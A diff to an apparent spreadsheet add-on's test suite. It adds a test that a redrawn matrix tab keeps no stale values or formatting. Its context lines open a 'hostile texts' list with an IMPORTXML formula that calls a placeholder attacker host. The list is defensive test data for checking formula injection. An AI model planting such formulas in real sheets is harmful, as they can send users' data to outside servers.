@@ -220,6 +220,26 @@ describe('checklists the add-on does not carry', () => {
   });
 });
 
+describe('a tab drawn anew', () => {
+  it('leaves nothing behind of what stood there', async () => {
+    const lab = await openAddon();
+    const wide = recordOf({
+      code: '1',
+      id: 'a',
+      findings: [finding('extra-1', 'fail'), finding('extra-2', 'fail')],
+    });
+    importRecords(lab, [wide]);
+    importRecords(lab, [recordOf({ code: '1', id: 'b', finishedAt: '2026-11-21T03:00:00Z' })]);
+    const fresh = await openAddon();
+    importRecords(fresh, [recordOf({ code: '1', id: 'b', finishedAt: '2026-11-21T03:00:00Z' })]);
+    const [redrawn, drawn] = [lab, fresh].map(each => each.spreadsheet.sheet(MATRIX));
+    expect(redrawn?.display()).toEqual(drawn?.display());
+    expect(redrawn?.looks('background')).toEqual(drawn?.looks('background'));
+    expect(redrawn?.looks('note')).toEqual(drawn?.looks('note'));
+    expect(redrawn?.looks('numberFormat')).toEqual(drawn?.looks('numberFormat'));
+  });
+});
+
 describe('hostile texts', () => {
   const hostile = [
     '=IMPORTXML("https://evil.example","//a")',
